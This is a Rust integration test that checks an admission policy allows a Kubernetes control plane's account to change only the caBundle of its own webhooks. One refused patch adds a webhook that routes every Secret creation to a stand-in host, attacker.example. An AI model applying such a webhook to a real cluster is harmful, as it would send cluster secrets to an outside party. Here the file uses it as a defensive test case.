//! What the control plane's account may do to its own webhooks where a policy pins them.

use serde_json::json;
use weir_tests::eventually::eventually;

use crate::{
    life::USER,
    release::{Cluster, PATIENCE},
};

#[test]
fn with_the_admission_policy_the_control_plane_may_write_nothing_but_the_bundle() {
    let Some(cluster) = Cluster::start() else {
        return;
    };
    cluster
        .upgrade("weir", "admissionPolicy.pinWebhooks=true", &[])
        .unwrap();
    let patch = |kind: &str, name: &str, path: &str, value: serde_json::Value| {
        let patch = json!([{"op": "add", "path": path, "value": value}]);
        let (user, patch) = (format!("--as={USER}"), format!("--patch={patch}"));
        // kubectl reads what it patches, which the account itself may not.
        let command = [
            "patch",
            kind,
            name,
            "--type=json",
            &user,
            "--as-group=system:masters",
            &patch,
        ];
        cluster.server.kubectl(&command)
    };
    let (mutating, validating) = (
        "mutatingwebhookconfiguration",
        "validatingwebhookconfiguration",
    );
    let secrets = json!({"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE"],
        "resources": ["secrets"]});
    let everything = json!({"name": "all.weir.dev", "sideEffects": "None",
        "admissionReviewVersions": ["v1"], "rules": [secrets],
        "clientConfig": {"url": "https://attacker.example/"}});
    // A new policy is in force a moment after it is made. What changes nothing is no news to it.
    let mut seconds = 5..;
    let refused = eventually(PATIENCE, || {
        let seconds = json!(seconds.next()? % 20 + 1);
        patch(
            mutating,
            "weir-injector",
            "/webhooks/0/timeoutSeconds",
            seconds,
        )
        .err()
    });
    refused.unwrap();
    for (kind, name, path, value) in [
        (
            mutating,
            "weir-injector",
            "/webhooks/0/rules/-",
            secrets.clone(),
        ),
        (validating, "weir-validator", "/webhooks/0/rules/-", secrets),
        (
            mutating,
            "weir-injector",
            "/webhooks/0/namespaceSelector",
            json!({}),
        ),
        (
            mutating,
            "weir-injector",
            "/webhooks/0/clientConfig/service/name",
            json!("other"),
        ),
        (mutating, "weir-injector", "/webhooks/-", everything),
        (mutating, "weir-injector", "/webhooks", json!([])),
    ] {
        let refused = patch(kind, name, path, value).unwrap_err().to_string();
        assert!(
            refused.contains("may change caBundle of its webhooks"),
            "{path}: {refused}"
        );
    }
    for (kind, name) in [(mutating, "weir-injector"), (validating, "weir-validator")] {
        let path = "/webhooks/0/clientConfig/caBundle";
        patch(kind, name, path, json!("LS0t")).unwrap();
    }
    // People's own changes are not the control plane's.
    let values = "admissionPolicy.pinWebhooks=true,webhooks.failurePolicy=Ignore";
    cluster
        .upgrade("weir", values, &["--force-conflicts"])
        .unwrap();
}
